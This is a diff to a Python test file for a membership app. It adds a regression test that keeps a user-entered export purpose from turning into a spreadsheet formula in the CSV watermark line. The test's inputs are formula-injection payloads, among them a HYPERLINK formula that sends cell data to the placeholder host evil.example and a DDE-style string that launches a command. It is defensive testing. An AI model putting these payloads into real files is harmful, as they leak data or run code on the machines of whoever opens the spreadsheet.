@@ -4,7 +4,9 @@ starting only once the data protection agreement is accepted."""
 
 from __future__ import annotations
 
+import csv
 import datetime
+import io
 import re
 
 import pytest
@@ -226,3 +228,27 @@ def test_acceptance_is_read_in_the_one_roles_query(movement: Movement, django_as
     with django_assert_num_queries(1):
         for capability in (Capability.VIEW_MEMBERS, Capability.EXPORT_MEMBERS):
             assert scopes_for(user, capability).covers_group(movement.group_a.pk)
+
+
+@pytest.mark.parametrize(
+    "purpose",
+    [
+        '=HYPERLINK("http://evil.example/?"&A3,"Click to verify")',
+        "phoning, =1+1",
+        "calling\",@SUM(1+1)*cmd|' /C calc'!A0",
+        "+thing;-1",
+    ],
+)
+def test_the_watermark_is_one_cell_that_no_spreadsheet_runs(movement: Movement, purpose: str):
+    """Issue 20, item 7: the purpose was written into the watermark line unquoted, so a comma in
+    it started a new cell and a purpose such as `x,=HYPERLINK(...)` became a formula."""
+    client = client_of(movement.data_manager_a)
+    body = csv_of(client.get(link_in(export(client, purpose=purpose))))
+    rows = list(csv.reader(io.StringIO(body, newline="")))
+    assert len(rows[0]) == 1
+    assert rows[0][0].startswith(f"# Exported by {movement.data_manager_a.user.email} at ")
+    assert f"for {exports.clean_purpose(purpose)}; personal data" in rows[0][0]
+    assert rows[1][0] == "membership_number"
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (row, cell)
